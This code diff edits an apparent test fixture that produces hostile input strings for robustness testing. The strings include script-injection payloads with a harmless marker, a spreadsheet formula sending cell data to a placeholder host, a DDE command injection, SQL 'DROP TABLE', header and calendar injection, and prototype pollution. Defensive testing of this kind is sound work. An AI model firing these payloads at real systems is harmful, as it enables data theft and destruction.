@@ -21,7 +21,7 @@ const tags = [
 const attributes = ['"', "'", '`', '">', "'>", '--><', ']]>', '</title>', '</textarea>', '</style>', '</script>'];
 
 /** 60 texts that would run `ran()` somewhere, if they were more than text. */
-export const scriptTexts = [
+const scriptTexts = [
   ...tags.map((tag) => `<${tag}=ran()>`),
   ...attributes.map((end) => `${end}<img src=x onerror=ran()>`),
   ...['"', "'", '` '].map((quote) => `${quote} onmouseover=${quote.trim()}ran()`),
@@ -54,3 +54,25 @@ export const scriptTexts = [
   '<%= ran() %>',
   '&lt;img src=x onerror=ran()&gt;',
 ];
+
+/** Texts that mean something to a spreadsheet, a calendar, a mail program, a database or a page's layout. */
+const oddTexts = [
+  '=HYPERLINK("https://x.example/?"&A1,"Open")',
+  "@SUM(1)*cmd|' C calc'!A0",
+  'x\\nEND:VEVENT\\nBEGIN:VALARM;CN="x"',
+  'Bcc: x@x.example\\r\\nSubject: Hello',
+  `'; DROP TABLE children; --`,
+  '{"__proto__":{"hasRun":true}}',
+  '%0d%0aSet-Cookie:%20touchline=1',
+  `${'W'.repeat(45)} ${'i'.repeat(45)}`,
+  'מִיָה كرة القدم ‹›«»',
+  `Z${'\u0336\u0315\u031b'.repeat(12)}algo`,
+  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏽 ﷽﷽﷽',
+  'constructor toString NaN undefined null',
+];
+
+/** All texts, or all odd ones and a fifth of those with scripts. The first one has a script, and so have the last ones. */
+export function hostileTexts(isFull: boolean): string[] {
+  const [first, ...others] = scriptTexts.filter((_text, n) => isFull || n % 5 === 0);
+  return [first!, ...oddTexts, ...others];
+}
